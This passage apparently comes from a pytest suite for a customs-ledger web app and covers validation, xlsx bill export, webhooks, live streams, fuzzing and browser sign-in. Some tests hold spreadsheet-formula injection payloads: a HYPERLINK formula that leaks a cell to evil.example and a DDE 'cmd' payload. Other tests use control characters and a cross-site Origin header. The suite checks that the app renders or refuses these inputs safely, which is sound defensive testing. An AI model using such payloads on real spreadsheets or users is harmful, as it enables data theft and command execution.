        f"entries[0]: field 'entry_ref' = 'CTRL-1\\x00': holds the control character U+0000 at character 7; "
        f"{printable}",
        "entries[0]: field 'site' = 'SITE-\\ud800': holds a lone surrogate (U+D800) at character 6, which is not text",
    ]


@pytest.mark.parametrize(
    ("moment", "message"),
    [
        ("0001-01-01T00:00:00-14:00", "before 1970-01-01, the earliest moment the ledger holds (Unix time)"),
        ("0001-01-01T00:00:00+14:00", "out of the range of date-times (years 1 to 9999 in UTC)"),
        ("9999-12-31T23:59:59-14:00", "out of the range of date-times (years 1 to 9999 in UTC)"),
    ],
)
def test_a_moment_the_ledger_cannot_hold_is_refused(served: Served, moment: str, message: str) -> None:
    entry = {**placement_json("API-IM-YEAR", "API-LOT-YEAR"), "occurred_at": moment}
    for dry_run in (True, False):
        answer = served.post(
            "/api/v1/entries", {"entries": [entry], "dry_run": dry_run}, served.tokens["broker"]
        )
        assert answer.status_code == 422, answer.text
        assert [p["text"] for p in answer.json()["problems"]] == [
            f"entries[0]: field 'occurred_at' = '{moment}': {message}"
        ]


def test_the_downloaded_bill_holds_control_characters_already_on_the_chain(served: Served) -> None:
    """Recorded straight to the ledger (another client, or before the reader refused them)."""
    broker = LedgerClient(served.customs.w3, served.customs.deployment, dev_account("broker"))
    placement = read_json_placement(placement_json("CTRL-2\x00", "API-LOT-\x1b[31mRED"))
    broker.record(placement.model_copy(update={"description": "Tread\x0b rubber \x1b[31mred"}))
    session = served.ctx.store.create_session(dev_account("holder").address, 600)

    def downloaded() -> Any:
        answer = served.get(
            f"/authorisations/{REFERENCE}/bill.xlsx?from=2019-08-01&to=2019-12-31",
            cookies={"pa_session": session},
        )
        assert answer.status_code == 200
        workbook = openpyxl.load_workbook(BytesIO(answer.content))
        values = {cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row}
        return values if "CTRL-2\\x00" in values else None

    values = _wait(downloaded, 10)
    assert values and {"API-LOT-\\x1b[31mRED", "Tread\\x0b rubber \\x1b[31mred"} <= values


def read_json_placement(entry: dict[str, Any]) -> Placement:
    """An entry of the API's JSON as the model (the reader's checks left out)."""
    return Placement.model_validate({k: v for k, v in entry.items() if k != "kind"})


def test_the_downloaded_bill_holds_a_declarants_formula_as_text(served: Served) -> None:
    lot = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    entry = {**placement_json("API-IM-FORMULA", lot), "site": "=cmd|' /C calc'!A0"}
    assert served.post("/api/v1/entries", {"entries": [entry]}, served.tokens["broker"]).status_code == 200
    session = served.ctx.store.create_session(dev_account("holder").address, 600)
    period = "from=2019-08-01&to=2019-12-31"  # the placement's period for discharge ends 30 Sep 2019

    def downloaded() -> Any:
        answer = served.get(
            f"/authorisations/{REFERENCE}/bill.xlsx?{period}", cookies={"pa_session": session}
        )
        assert answer.status_code == 200
        workbook = openpyxl.load_workbook(BytesIO(answer.content))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        return cells if any(cell.value == lot for cell in cells) else None

    cells = _wait(downloaded, 10)
    assert cells, "the placement is not in the bill"
    assert [cell.value for cell in cells if cell.data_type == "f"] == []


def test_each_new_alert_is_posted_once_to_the_webhooks_that_want_it(served: Served) -> None:
    receiver = served.receiver
    alerts = served.get("/api/v1/alerts", served.tokens["customs"]).json()["alerts"]
    everything = {alert["key"] for alert in alerts}
    assert _wait(lambda: set(receiver.keys("/all")) >= everything, 20)
    assert len(receiver.keys("/all")) == len(set(receiver.keys("/all")))  # once each
    _path, body, headers = next(p for p in receiver.posts if p[0] == "/all")
    assert (
        headers["Idempotency-Key"] == body["delivery"]
        and body["ledger"]["ledger"] == served.ctx.ledger.deployment.ledger
    )
    # An audit's new alerts go together: the sample season's first audit in few POSTs.
    first = len([p for p, _, _ in receiver.posts if p == "/all"])
    assert first < len(everything) and all(
        len(b["alerts"]) <= ALERTS_PER_DELIVERY for _, b, _ in receiver.posts
    )
    # The webhook bound to holder2 gets none of the sample season's alerts (holder2 may not see them).
    assert all(
        alert["authorisation"] == served.other
        for p, body, _ in receiver.posts
        if p == "/holder2"
        for alert in body["alerts"]
    )
    # A failing webhook is retried with backoff, then delivered once.
    critical = {a["key"] for a in alerts if a["severity"] == "critical"}
    assert _wait(lambda: all(receiver.attempts.get(f"/flaky {k}", 0) >= 2 for k in critical), 20)
    receiver.failing.discard("/flaky")
    served.ctx.webhooks.nudge()
    assert _wait(lambda: set(receiver.keys("/flaky")) == critical, 20)
    assert len(receiver.keys("/flaky")) == len(critical)


def _documented_verify() -> Callable[[str, bytes, str], bool]:
    """The receiver's check as docs/web.md gives it, run as written."""
    text = (Path(__file__).resolve().parent.parent / "docs" / "web.md").read_text(encoding="utf-8")
    section = text[text.index("#### Checking a delivery's signature") :]
    code = section[section.index("```python\n") + len("```python\n") : section.index("```\n", 10)]
    namespace: dict[str, Any] = {}
    exec(compile(code, "docs/web.md", "exec"), namespace)
    verify: Callable[[str, bytes, str], bool] = namespace["verify"]
    return verify


def test_each_delivery_is_signed_with_its_webhooks_secret(served: Served) -> None:
    verify = _documented_verify()
    secret = next(h.secret for h in served.ctx.store.webhooks() if h.url.endswith("/all"))
    assert secret.startswith("whsec_")
    assert _wait(lambda: any(path == "/all" for path, _, _ in served.receiver.posts), 20)
    delivered = [
        (raw, {name.lower(): value for name, value in headers.items()}["x-pa-signature"])
        for (path, _, headers), raw in zip(served.receiver.posts, served.receiver.raw, strict=True)
        if path == "/all"
    ]
    assert delivered and all(verify(secret, raw, signed) for raw, signed in delivered)
    raw, signed = delivered[0]
    assert not verify(secret, raw + b" ", signed)  # another body
    assert not verify("whsec_other", raw, signed)  # another secret
    assert not verify(secret, raw, re.sub(r"t=\d+", "t=1000000000", signed))  # a replay of long ago


def test_alerts_are_not_lost_or_repeated_across_a_restart(served: Served) -> None:
    ctx, receiver = served.ctx, served.receiver
    ctx.webhooks.stop()  # the sender is down: deliveries wait in the outbox
    posted = len(receiver.posts)
    entry = placement_json("API-IM-0010", "API-LOT-0010", days_ago=20)
    assert served.post("/api/v1/entries", {"entries": [entry]}, served.tokens["broker"]).status_code == 200
    pending = _wait(lambda: [d for d in ctx.store.outbox() if d["delivered"] is None], 10)
    assert pending and len(receiver.posts) == posted
    # A restarted server: its tracker finds no new alert, its sender delivers what was owed, once.
    restarted = Tracker(ctx.ledger, ctx.broker, seen=Store.for_data_dir(served.settings.data_dir).first_seen)
    found: list[Any] = []
    restarted._on_new_alerts = found.extend
    restarted.poll_once()
    assert restarted.audit_once() is not None and found == []
    sender = WebhookSender(Store.for_data_dir(served.settings.data_dir))
    sender.start()
    ctx.webhooks = sender
    assert _wait(lambda: all(d["delivered"] for d in ctx.store.outbox()), 20)
    keys = receiver.keys("/all")
    assert len(keys) == len(set(keys))


def test_the_live_stream_carries_only_what_its_account_may_see(served: Served) -> None:
    connections: list[http.client.HTTPConnection] = []

    def stream(alias: str) -> list[str]:
        session = served.ctx.store.create_session(dev_account(alias).address, 60)
        connection = http.client.HTTPConnection("127.0.0.1", int(served.base.rsplit(":", 1)[1]), timeout=6)
        connections.append(connection)
        connection.request("GET", "/events", headers={"Cookie": f"pa_session={session}"})
        response = connection.getresponse()
        lines: list[str] = []

        def read() -> None:
            try:
                while True:
                    line = response.fp.readline().decode()
                    if not line:
                        return
                    lines.append(line)
            except OSError:
                return

        threading.Thread(target=read, daemon=True).start()
        return lines

    def block_seen(lines: list[str], block: int) -> bool:
        """A `block` event of `block` or later has arrived: everything published before it too."""
        return any(
            before.startswith("event: block")
            and line.startswith("data:")
            and json.loads(line[5:])["block"] >= block
            for before, line in itertools.pairwise(lines)
        )

    try:
        seen_by_customs, seen_by_holder2 = stream("customs"), stream("holder2")
        # Both streams are open once each has its first line (the reconnection delay).
        assert _wait(lambda: seen_by_customs and seen_by_holder2, 5)
        entry = placement_json("API-IM-0020", "API-LOT-0020")
        answer = served.post("/api/v1/entries", {"entries": [entry]}, served.tokens["broker"])
        assert answer.status_code == 200
        block = answer.json()["results"][0]["block"]
        assert _wait(lambda: any("API-IM-0020" in line for line in seen_by_customs), 5)
        # The block's own event comes after its records: once holder 2 has it, a record it was sent
        # would be there already.
        assert _wait(lambda: block_seen(seen_by_holder2, block), 5)
        assert not any(REFERENCE in line for line in seen_by_holder2)
    finally:
        for connection in connections:
            if connection.sock is not None:
                connection.sock.shutdown(socket.SHUT_RDWR)  # wakes the reading thread
            connection.close()


# ---------------------------------------------------------------- the node stopped, and back on another port


def test_the_server_answers_502_while_its_node_is_down_and_follows_it_to_another_port(
    tmp_path: Path,
) -> None:
    """An embedded node of its own (`pa node start`), really stopped, then started again: Anvil picks
    another free port, which the server finds in the node's node.json."""
    settings = Settings(data_dir=tmp_path / "data", node_state_interval=1)
    node = EmbeddedNode(settings)
    first = node.start().rpc_url
    try:
        w3 = open_chain(settings)
        deployment = deploy(Sender(w3, dev_account("customs")))
        save_deployment(settings.data_dir, deployment)
        customs = LedgerClient(w3, deployment, dev_account("customs"))
        reference = factories.fresh_reference("FRIPON")
        customs.register(factories.authorisation(reference))
        customs_address = dev_account("customs").address
        with Store.for_data_dir(settings.data_dir) as store:
            _, token = _customs_token(store, "node down")
            session = store.create_session(customs_address, 600)
        _app, server, thread, base = start_server(WebConfig(settings, poll_seconds=0.25))
        holder = LedgerClient(w3, deployment, dev_account("holder"))
        holder.record(factories.placement(reference, "DOWN-P1", "DOWN-L1"))
        bearer = {"Authorization": f"Bearer {token}"}
        entry = f"{base}/api/v1/authorisations/{reference}/entries/DOWN-P1"
        assert _wait(lambda: requests.get(entry, headers=bearer, timeout=30).json()["status"] == "recorded")
        time.sleep(1.5)  # the node's state saved once with the record
        try:
            assert node.stop()
            answers = {
                "entry status": requests.get(entry, headers=bearer, timeout=60),
                "record page": requests.get(
                    f"{base}/authorisations/{reference}/records/DOWN-P1",
                    cookies={"pa_session": session},
                    timeout=60,
                ),
            }
            statuses = {name: answer.status_code for name, answer in answers.items()}
            assert statuses == {"entry status": 502, "record page": 502}
            assert answers["entry status"].json()["detail"].startswith("the ledger did not answer")
            # Started again: `pa node start` picks a free port, another one.
            moved = EmbeddedNode(settings.model_copy(update={"node_port": _free_port()})).start().rpc_url
            assert moved != first
            again = requests.get(entry, headers=bearer, timeout=60)
            assert again.status_code == 200 and again.json()["status"] == "recorded"

            def health() -> dict[str, Any]:
                answer: dict[str, Any] = requests.get(base + "/api/v1/health", timeout=30).json()
                return answer

            assert _wait(lambda: health()["error"] is None, 20), health()
        finally:
            server.stop()
            thread.join(15)
    finally:
        node.stop()


# ---------------------------------------------------------------- schemathesis


def test_no_generated_request_makes_a_server_error(served: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every operation of the published OpenAPI document, with generated valid and invalid requests,
    as a system with a token (a read-only one: nothing generated is recorded) and as no one; then
    against the guards' limits: bodies beyond a tight limit (413), requests from another site (403)."""
    schema = schemathesis.openapi.from_url(served.base + "/openapi.json")
    operations = [result.ok() for result in schema.get_all_operations()]  # type: ignore[union-attr]
    assert {op.path for op in operations} >= {
        "/api/v1/entries",
        "/api/v1/authorisations/{reference}/entries/{entry_ref}",
        "/api/v1/authorisations/{reference}/audit",
        "/api/v1/alerts",
    }
    examples = int(os.environ.get("PA_WEB_FUZZ_EXAMPLES", "8"))
    token = {"Authorization": f"Bearer {served.tokens['customs']}"}
    elsewhere = {**token, "Origin": "https://evil.example"}
    runs = [
        (schemathesis.GenerationMode.POSITIVE, token, examples, False),
        (schemathesis.GenerationMode.NEGATIVE, token, examples, False),
        (schemathesis.GenerationMode.POSITIVE, {}, 3, False),
        (schemathesis.GenerationMode.POSITIVE, token, 4, True),  # bodies beyond 64 bytes refused
        (schemathesis.GenerationMode.NEGATIVE, elsewhere, 3, False),
    ]
    document = served.get("/openapi.json").json()
    calls = 0
    statuses: collections.Counter[int] = collections.Counter()
    tight = dataclasses.replace(served.ctx.config, max_body_bytes=64)
    for operation in operations:
        spec = document["paths"][operation.path][operation.method.lower()]
        for mode, headers, count, limited in runs:
            with monkeypatch.context() as limits:
                if limited:
                    limits.setattr(served.ctx, "config", tight)
                    limits.setattr(guards, "SMALL_BODY_BYTES", 64)
                calls += _generated_calls(served, operation, spec, mode, headers, count, statuses)
    assert calls > 8 * len(operations)
    assert statuses[413] and statuses[403] and not [s for s in statuses if s >= 500]


def _generated_calls(
    served: Served,
    operation: Any,
    spec: dict[str, Any],
    mode: schemathesis.GenerationMode,
    headers: dict[str, str],
    count: int,
    statuses: collections.Counter[int],
) -> int:
    """Sends up to `count` generated requests of `operation`, each checked not to make a server
    error, counting their statuses; returns how many were sent."""
    if mode is schemathesis.GenerationMode.NEGATIVE and not (
        spec.get("requestBody") or spec.get("parameters")
    ):
        return 0  # nothing of the request can be made invalid
    calls = 0

    @hypothesis.settings(
        max_examples=count,
        deadline=None,
        database=None,
        derandomize=True,
        suppress_health_check=list(HealthCheck),
        phases=[hypothesis.Phase.explicit, hypothesis.Phase.generate],
    )
    @hypothesis.given(case=operation.as_strategy(mode, headers=headers))
    def check(case: schemathesis.Case[Any]) -> None:
        nonlocal calls
        calls += 1
        response = case.call(base_url=served.base, timeout=30)
        statuses[response.status_code] += 1
        case.validate_response(response, checks=[not_a_server_error])

    with contextlib.suppress(hypothesis.errors.Unsatisfiable):  # nothing invalid can be made of it
        check()
    return calls


# ---------------------------------------------------------------- in a real browser


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if not Path(CHROMIUM).exists():
        missing = f"{CHROMIUM} is not installed (apt-get install chromium)"
        if os.environ.get("CI"):
            pytest.fail(f"{missing}: .ci/run installs it, the browser tests must run in CI")
        pytest.skip(missing)
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        try:
            yield launched
        finally:
            launched.close()


WALLET = """
window.ethereum = {
  request: async ({method, params}) => {
    if (method === 'eth_requestAccounts') { return [window.__paWalletAddress]; }
    if (method === 'personal_sign') { return await window.__paWalletSign(params[0]); }
    if (method === 'eth_sendTransaction') { return await window.__paWalletSend(params[0]); }
    if (method === 'eth_chainId') { return window.__paWalletChain; }
    if (method === 'eth_getTransactionReceipt') { return await window.__paWalletReceipt(params[0]); }
    throw new Error('unsupported ' + method);
  },
};
"""


def signed_in_page(browser: Any, served: Served, account: LocalAccount) -> Any:
    """A page whose browser wallet (an injected EIP-1193 provider) holds `account`, signed in with it
    through the sign-in page's wallet button. The wallet signs transactions with the account's key
    and sends them to the node, as a wallet does."""
    context = browser.new_context(viewport={"width": 1360, "height": 900})
    node = Web3(Web3.HTTPProvider(served.settings.rpc_url))

    def wallet_sign(hex_message: str) -> str:
        return sign_message(account, bytes.fromhex(hex_message[2:]).decode("utf-8"))

    def wallet_send(call: dict[str, str]) -> str:
        assert Web3.to_checksum_address(call["from"]) == account.address
        transaction: dict[str, Any] = {
            "from": account.address,
            "to": Web3.to_checksum_address(call["to"]),
            "data": call["data"],
            "nonce": node.eth.get_transaction_count(account.address, "pending"),
            "chainId": node.eth.chain_id,
        }
        transaction["gas"] = node.eth.estimate_gas(transaction)  # type: ignore[arg-type]
        transaction["gasPrice"] = node.eth.gas_price
        signed = account.sign_transaction(transaction)
        return "0x" + node.eth.send_raw_transaction(signed.raw_transaction).hex().removeprefix("0x")

    def wallet_receipt(tx_hash: str) -> dict[str, str] | None:
        try:
            receipt = node.eth.get_transaction_receipt(tx_hash)  # type: ignore[arg-type]
        except TransactionNotFound:
            return None
        return {"status": hex(receipt["status"]), "blockNumber": hex(receipt["blockNumber"])}

    context.expose_function("__paWalletSign", wallet_sign)
    context.expose_function("__paWalletSend", wallet_send)
    context.expose_function("__paWalletReceipt", wallet_receipt)
    context.add_init_script(
        f"window.__paWalletAddress = '{account.address}'; window.__paWalletChain = '{hex(node.eth.chain_id)}';"
        + WALLET
    )
    page = context.new_page()
    page.goto(served.base + "/")
    assert page.url.startswith(served.base + "/signin")
    page.click("#wallet-sign-in")
    page.wait_for_url(served.base + "/")
    return page


def test_customs_sign_in_and_see_the_sample_season(browser: Any, served: Served) -> None:
    page = signed_in_page(browser, served, dev_account("customs"))
    row = page.locator(f'#overview tr[data-ref="{REFERENCE}"]')
    assert row.count() == 1
    assert "FR12345678900042" in row.inner_text()
    assert page.locator(f'#overview tr[data-ref="{served.other}"]').count() == 1
    page.click(f'#overview a:text-is("{REFERENCE}")')
    page.wait_for_url(f"**/authorisations/{REFERENCE}")
    assert page.locator("#placements svg").count() == 1  # the deadline timeline
    assert page.locator("#yields svg").count() == 1  # actual against authorised yield
    assert page.locator("#live-records tbody tr").count() == 25
    assert "BDP-EX-2019-0001" in page.locator("#discharges").inner_text()
    page.click('#placements a:text-is("BDP-IM-2019-0003")')
    page.wait_for_url("**/records/BDP-IM-2019-0003")
    assert "BDP-IM-2019-0003" in page.inner_text("h1")
    assert page.locator(".proof .big").inner_text() == "3"  # the third record of the authorisation
    page.context.close()


def test_an_entry_and_its_alert_appear_live_within_two_seconds(browser: Any, served: Served) -> None:
    page = signed_in_page(browser, served, dev_account("customs"))
    page.goto(f"{served.base}/authorisations/{REFERENCE}")
    page.evaluate("window.__notReloaded = true")
    page.wait_for_selector("#live-status.live:not(.off)")
    page.wait_for_timeout(300)  # the stream is open
    entry = placement_json("LIVE-IM-0001", "LIVE-LOT-0001", days_ago=5)
    answered = served.post("/api/v1/entries", {"entries": [entry]}, served.tokens["broker"])
    sent = time.monotonic()
    assert answered.status_code == 200, answered.text
    page.wait_for_selector(
        '#live-records tbody tr:first-child a:text("LIVE-IM-0001")', timeout=LIVE_SECONDS * 1000
    )
    record_seconds = time.monotonic() - sent
    page.wait_for_selector('#live-alerts li:has-text("LIVE-IM-0001")', timeout=LIVE_SECONDS * 1000)
    alert_seconds = time.monotonic() - sent
    assert page.evaluate("window.__notReloaded") is True
    assert record_seconds < LIVE_SECONDS and alert_seconds < LIVE_SECONDS
    print(
        f"live: record shown {record_seconds:.2f} s, its alert {alert_seconds:.2f} s after the API answered"
    )
    page.context.close()


_CARDS = {
    "placements": "placements_count",
    "under_procedure": "still_under",
    "duty_due": "duty_due",
    "critical": "critical",
    "overdue": "overdue_placements",
}


def _cards(page: Any) -> dict[str, str]:
    """Each summary card's text but its label (value and detail), by the label's name."""
    t = i18n.translator("en")
    found: dict[str, str] = page.evaluate(
        """() => Object.fromEntries([...document.querySelectorAll('.cards > .card, .summary > .card')].map(
            (card) => [card.querySelector('.label').textContent.trim(),
                       [...card.children].slice(1).map((c) => c.textContent).join(' ')
                         .replace(/\\s+/g, ' ').trim()]))"""
    )
    names = {t[key]: name for name, key in _CARDS.items()}
    return {names.get(label, label): text for label, text in found.items()}


def _overview_row(page: Any, reference: str) -> str:
    """An overview row's text, its alert counts with the severity they count."""
    found: str = page.evaluate(
        """(ref) => [...document.querySelector(`#overview tr[data-ref="${CSS.escape(ref)}"]`).cells]
            .map((cell) => cell.innerText.replace(/\\s+/g, ' ').trim()).join(' | ')""",
        reference,
    )
    return found


def _value(page: Any, card: str) -> str:
    return _cards(page)[card].split(" ")[0]


def _fresh_cards(browser_page: Any, url: str) -> dict[str, str]:
    """The cards of the same page loaded anew (in another tab of the same session)."""
    fresh = browser_page.context.new_page()
    fresh.goto(url)
    cards = _cards(fresh)
    if fresh.locator("#overview").count():
        cards["row"] = _overview_row(fresh, REFERENCE)
    fresh.close()
    return cards


def _severities(page: Any) -> list[str]:
    found: list[str] = page.evaluate(
        """() => [...document.querySelectorAll('#live-alerts > li.alert')].map(
            (li) => (li.className.match(/sev-(\\w+)/) || [])[1])"""
    )
    return found


def test_the_summary_cards_follow_each_record_live_and_alerts_stay_in_severity_order(
    browser: Any, served: Served
) -> None:
    """A placement long overdue, then its re-export: on the authorisation page and the overview, open
    without a reload, each card shows what a fresh load of the page shows, and a new alert is never
    put above a more severe one."""
    page = signed_in_page(browser, served, dev_account("customs"))
    auth_url = f"{served.base}/authorisations/{quote(REFERENCE)}"
    page.goto(auth_url)
    overview = page.context.new_page()
    overview.goto(served.base + "/")
    for tab in (page, overview):
        tab.evaluate("window.__notReloaded = true")
        tab.wait_for_selector("#live-status.live:not(.off)")
    page.wait_for_timeout(300)  # the streams are open
    before = _cards(page)
    assert {"placements", "under_procedure", "duty_due"} <= set(before)
    assert {"critical", "overdue"} <= set(_cards(overview))
    placements = int(_value(page, "placements"))
    overdue = int(_value(overview, "overdue"))
    lot = "LIVE-CARD-LOT-01"

    def changed(tab: Any, card: str, wanted: Callable[[str], bool]) -> None:
        """Waits until the live card shows the change, without a reload."""
        assert _wait(lambda: wanted(_cards(tab)[card]), LIVE_SECONDS * 2), _cards(tab)

    def settled(tab: Any, url: str) -> dict[str, str]:
        """Waits until the live cards are those a fresh load shows, and returns them."""
        expected: dict[str, str] = {}

        def same() -> bool:
            expected.update(_fresh_cards(tab, url))
            live = _cards(tab)
            if tab is overview:
                live["row"] = _overview_row(tab, REFERENCE)
            if live == expected:
                return True
            time.sleep(0.2)
            return False

        assert _wait(same, LIVE_SECONDS * 4), (
            f"live {_cards(tab)} {_overview_row(tab, REFERENCE) if tab is overview else ''}, "
            f"loaded anew {expected}"
        )
        return expected

    # A placement whose period for discharge has ended: overdue, more under the procedure.
    entry = placement_json("LIVE-CARD-IM-01", lot, days_ago=5)
    answered = served.post("/api/v1/entries", {"entries": [entry]}, served.tokens["broker"])
    assert answered.status_code == 200, answered.text
    page.wait_for_selector('#live-records tbody tr:first-child a:text("LIVE-CARD-IM-01")')
    changed(page, "placements", lambda text: text.startswith(f"{placements + 1} "))
    changed(overview, "overdue", lambda text: text.startswith(f"{overdue + 1} "))
    placed = settled(page, auth_url)
    assert _value(page, "placements") == str(placements + 1)
    assert placed["under_procedure"] != before["under_procedure"]
    shown = settled(overview, served.base + "/")
    assert _value(overview, "overdue") == str(overdue + 1)
    assert int(_value(overview, "critical")) >= 1 and shown["critical"]
    severities = _severities(page)
    assert severities == sorted(severities, key=["critical", "warning", "info"].index), severities

    # A re-export of as much: allocated to the placements (oldest first), less under the procedure.
    discharge = {
        "entry_ref": "LIVE-CARD-EX-01",
        "kind": "discharge",
        "authorisation": REFERENCE,
        "occurred_at": (datetime(2019, 3, 30, 10, tzinfo=UTC) - timedelta(days=4)).isoformat(),
        "lot": lot,
        "quantity": "12.5",
        "site": "BOURGES-STORE",
        "mode": "reexport",
        "declaration": "24FR00000000000033",
        "procedure": "3151",
    }
    answered = served.post("/api/v1/entries", {"entries": [discharge]}, served.tokens["broker"])
    assert answered.status_code == 200, answered.text
    page.wait_for_selector('#live-records tbody tr:first-child a:text("LIVE-CARD-EX-01")')
    changed(page, "under_procedure", lambda text: text != placed["under_procedure"])
    discharged = settled(page, auth_url)
    assert _value(page, "placements") == str(placements + 1)
    assert discharged["under_procedure"] != placed["under_procedure"]  # 12.5 kg fewer under the procedure
    settled(overview, served.base + "/")
    severities = _severities(page)
    assert severities == sorted(severities, key=["critical", "warning", "info"].index), severities

    # An info and a warning alert arriving now go after the critical ones, the info one in the folded
    # list of info alerts.
    assert "critical" in severities
    for severity in ("info", "warning"):
        alert = {
            "key": f"live-card-{severity}",
            "authorisation": REFERENCE,
            "kind": "late_record",
            "severity": severity,
            "entry_ref": "LIVE-CARD-EX-01",
            "lot": None,
            "message": f"a {severity} alert <b>as text</b>",
            "due": None,
            "first_seen": "2026-01-01T00:00:00Z",
        }
        served.ctx.broker.publish(Event("alert", REFERENCE, alert))
        page.wait_for_selector(f'li[data-key="live-card-{severity}"]', state="attached")
    severities = _severities(page)
    assert severities == sorted(severities, key=["critical", "warning", "info"].index), severities
    assert page.locator('#live-alerts > li[data-key="live-card-warning"]').count() == 1
    if page.locator("details.info-alerts").count():
        assert page.locator('details.info-alerts li[data-key="live-card-info"]').count() == 1
    else:
        assert page.locator("#live-alerts > li").last.get_attribute("data-key") == "live-card-info"
    assert (
        page.locator('li[data-key="live-card-warning"] .amsg').inner_text()
        == "a warning alert <b>as text</b>"
    )
    assert page.evaluate("window.__notReloaded") is True
    assert overview.evaluate("window.__notReloaded") is True
    page.context.close()


def test_another_holder_finds_the_first_holders_authorisation_absent_and_refused(
    browser: Any, served: Served
) -> None:
    holder2 = dev_account("holder2")
    context = browser.new_context()
    page = context.new_page()
    # Without a browser wallet: the address, the message to sign, the pasted signature.
    page.goto(served.base + "/signin")
    assert page.locator("#wallet-panel").is_hidden()
    page.fill("input[name=address]", holder2.address)
    page.click("form[action='/signin'] button[type=submit]")
    message = page.locator("textarea[name=message]").input_value()
    page.fill("input[name=signature]", sign_message(holder2, message))
    page.click("form[action='/signin'] button[type=submit]")
    page.wait_for_url(served.base + "/")
    assert page.locator(f'#overview tr[data-ref="{served.other}"]').count() == 1
    assert REFERENCE not in page.content()
    response = page.goto(f"{served.base}/authorisations/{quote(REFERENCE)}")
    assert response is not None and response.status == 404
    assert "Not found" in page.inner_text("h1")
    main_text = page.inner_text("main")
    assert f"no authorisation {REFERENCE} that this account may see" in main_text
    assert "BDP-IM-2019-0001" not in main_text and "CAS-2019" not in main_text  # none of its records
    context.close()


# ---------------------------------------------------------------- the screenshots of docs/web.md


@pytest.mark.skipif(
    not os.environ.get("PA_WEB_SCREENSHOTS"), reason="PA_WEB_SCREENSHOTS=FOLDER redraws the screenshots"
)
def test_screenshots(browser: Any, served: Served, tmp_path: Path) -> None:
    """Each page, as of 20 Sep 2019 (deadlines near, a bill due), on a server of its own."""
    folder = Path(os.environ["PA_WEB_SCREENSHOTS"])
    folder.mkdir(parents=True, exist_ok=True)
    settings = served.settings.model_copy(update={"data_dir": tmp_path})
    save_deployment(tmp_path, served.ctx.ledger.deployment)
    _app, server, thread, base = start_server(WebConfig(settings, today=date(2019, 9, 20), poll_seconds=0.25))
    context = browser.new_context(viewport={"width": 1360, "height": 900})
    context.add_init_script("window.__paWalletAddress = '0x0';" + WALLET)  # shows the wallet button
    page = context.new_page()
    try:
        page.goto(base + "/signin")
        page.screenshot(path=folder / "web-signin.png")
        page.click("button[value=customs]")
        page.wait_for_url(base + "/")
        page.screenshot(path=folder / "web-overview.png")
        page.goto(base + "/?lang=fr")
        page.screenshot(path=folder / "web-overview-fr.png")
        page.goto(base + f"/authorisations/{REFERENCE}?lang=en")
        page.set_viewport_size({"width": 1360, "height": 1500})
        page.screenshot(path=folder / "web-authorisation.png")
        page.locator("#placements").screenshot(path=folder / "web-authorisation-deadlines.png")
        page.locator("#discharges").screenshot(path=folder / "web-authorisation-discharges.png")
        page.locator("#yields").screenshot(path=folder / "web-authorisation-yield.png")
        page.set_viewport_size({"width": 1360, "height": 900})
        page.wait_for_selector("#live-status.live:not(.off)")
        page.wait_for_timeout(300)
        entry = placement_json("BDP-IM-2019-0046", "TRD-2019-0046", days_ago=1)
        assert (
            served.post("/api/v1/entries", {"entries": [entry]}, served.tokens["broker"]).status_code == 200
        )
        page.wait_for_selector('#live-records a:text-is("BDP-IM-2019-0046")', timeout=5000)
        page.wait_for_selector('#live-alerts li:has-text("BDP-IM-2019-0046")', timeout=5000)
        page.locator("#alerts").scroll_into_view_if_needed()
        page.evaluate("window.scrollTo(0, document.getElementById('alerts').offsetTop - 70)")
        page.wait_for_timeout(200)
        page.screenshot(path=folder / "web-live.png")
        page.goto(f"{base}/authorisations/{REFERENCE}/records/BDP-IM-2019-0003")
        page.screenshot(path=folder / "web-record.png")
        page.goto(f"{base}/authorisations/{REFERENCE}/bill?from=2019-09-01&to=2019-09-30")
        page.set_viewport_size({"width": 1360, "height": 1300})
        page.screenshot(path=folder / "web-bill.png")
    finally:
        context.close()
        server.stop()
        thread.join(15)


def test_a_bill_is_lodged_through_the_api_once(served: Served) -> None:
    """POST …/bills lodges the bill drawn from the served audit, signed by the token's account; the same
    bill again sends nothing; a read-only token cannot lodge; the overdue alert of the period ends."""
    path = f"/api/v1/authorisations/{REFERENCE}/bills"
    december = {"from": "2019-12-01", "to": "2019-12-31"}

    def overdue_december() -> list[dict[str, Any]]:
        found = served.get("/api/v1/alerts?kind=bill_overdue", served.tokens["customs"]).json()["alerts"]
        return [a for a in found if a["authorisation"] == REFERENCE and a["due"] == "2020-01-30"]

    assert overdue_december()
    assert served.post(path, december, served.tokens["customs"]).status_code == 403
    call = served.get(f"{path}/transaction?from=2019-12-01&to=2019-12-31", served.tokens["broker"]).json()
    assert (call["lodged"], call["audited"]) == (False, False)
    assert call["to"].lower() == served.ctx.ledger.ledger.address.lower() and call["data"].startswith("0x")
    first = served.post(path, december, served.tokens["broker"])
    assert first.status_code == 200, first.text
    body = first.json()
    assert body["status"] == "lodged" and body["entry_ref"] == call["entry_ref"]
    assert body["bill_sha256"] == call["bill_sha256"] and body["due"] == "2020-01-30"
    assert served.customs.entry_state(REFERENCE, body["entry_ref"]).kind == "bill"
    again = served.post(path, december, served.tokens["broker"]).json()
    assert again["status"] == "already lodged" and again["transaction"] is None
    assert _wait(lambda: not overdue_december())
    document = served.get(f"/api/v1/authorisations/{REFERENCE}/audit", served.tokens["customs"]).json()
    [row] = [b for b in document["bills"] if b["period_end"] == "2019-12-31"]
    assert (row["lodged"], row["lodging"], row["current"]) == (True, body["entry_ref"], True)
    reversed_period = served.post(path, {"from": "2019-12-31", "to": "2019-12-01"}, served.tokens["broker"])
    assert reversed_period.status_code == 422


def test_the_holder_lodges_a_bill_from_the_bill_page_with_its_wallet(browser: Any, served: Served) -> None:
    """The bill page says whether the bill is lodged; the holder's wallet signs the lodging; the page
    then shows it lodged, and the authorisation page's bills table too (as customs see it)."""
    page = signed_in_page(browser, served, dev_account("holder"))
    page.goto(f"{served.base}/authorisations/{REFERENCE}/bill?from=2019-09-01&to=2019-09-30")
    assert "Not lodged" in page.locator("#lodging").inner_text()
    assert "--lodge" in page.locator("#lodge-cli").inner_text()
